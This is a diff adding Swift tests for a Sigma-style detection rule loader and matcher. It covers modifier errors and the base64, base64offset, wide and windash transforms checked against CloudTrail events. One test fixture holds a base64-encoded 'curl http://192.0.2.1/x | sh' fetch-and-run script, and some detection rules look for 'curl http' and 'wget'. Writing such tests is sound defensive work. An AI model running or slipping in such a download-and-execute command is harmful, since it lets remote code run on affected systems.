@@ -48,13 +48,52 @@ func cloudTrail(
     @Test func badModifierValuesAreLoadErrors() throws {
         for (detection, reason) in [
             ("eventName|cidr: notanaddress", "not an address range"), ("eventName|gt: many", "is not a number"),
-            ("eventName|exists: maybe", "takes true or false"), ("eventName|windash: x", "is not supported"),
+            ("eventName|exists: maybe", "takes true or false"), ("eventName|expand: '%x%'", "is not supported"),
+            ("userAgent|base64offset: x", "only works with contains"),
+            ("userAgent|windash|contains: ' -a -b -c -d'", "more than three dashes"),
         ] {
             let (_, errors) = RuleLoader.load(
                 yaml: "title: t\nid: t\ndetection:\n  s:\n    \(detection)\n  condition: s\n", file: "t.yml")
             #expect(errors.first?.reason.contains(reason) == true, "\(detection): \(errors)")
             #expect(errors.first?.line == 5)
         }
+    }
+
+    /// The value transforms, with pySigma's results for the same inputs as the reference.
+    @Test func valueTransformsMatchPySigma() {
+        #expect(ValueTransform.base64.apply("/bin/bash") == ["L2Jpbi9iYXNo"])
+        #expect(ValueTransform.base64offset.apply("/bin/bash") == ["L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"])
+        let wide = ValueTransform.wide.apply("ping")
+        #expect(wide.flatMap(ValueTransform.base64.apply) == ["cABpAG4AZwA="])
+        #expect(wide.flatMap(ValueTransform.base64offset.apply) == ["cABpAG4AZw", "AAaQBuAGcA", "wAGkAbgBnA"])
+        let dashes = ValueTransform.windash.apply("-param-name /x")
+        #expect(dashes.count == 25, "two expandable dashes, five forms each")
+        #expect(dashes.contains("/param-name -x") && dashes.contains("\u{2013}param-name \u{2014}x"))
+        #expect(dashes.allSatisfy { $0.contains("param-name") }, "a dash inside a word stays")
+        #expect(ValueTransform.windash.apply("no-dash") == ["no-dash"])
+    }
+
+    @Test func transformedValuesMatchEncodedFields() throws {
+        let e = try event(
+            cloudTrail(
+                extra: #""requestParameters":{"userData":"IyEvYmluL2Jhc2gKY3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA=="}"#))
+        // "#!/bin/bash\ncurl http://192.0.2.1/x | sh" in base64: the encoded "curl" sits at an offset.
+        #expect(
+            try rule("  s:\n    requestParameters.userData|base64offset|contains: 'curl http'\n  condition: s").matches(
+                e))
+        #expect(
+            !(try rule("  s:\n    requestParameters.userData|base64offset|contains: wget\n  condition: s").matches(e)))
+        #expect(
+            try rule("  s:\n    requestParameters.userData|base64|startswith: \"#!/bin/bash\\n\"\n  condition: s")
+                .matches(e)
+        )
+        let cli = try event(cloudTrail(extra: #""requestParameters":{"commandLine":"tool.exe /install /quiet"}"#))
+        #expect(
+            try rule("  s:\n    requestParameters.commandLine|windash|contains: ' -install'\n  condition: s").matches(
+                cli))
+        #expect(
+            !(try rule("  s:\n    requestParameters.commandLine|windash|contains: ' -uninstall'\n  condition: s")
+                .matches(cli)))
     }
 
     @Test func unknownFieldsAreLoadWarnings() throws {
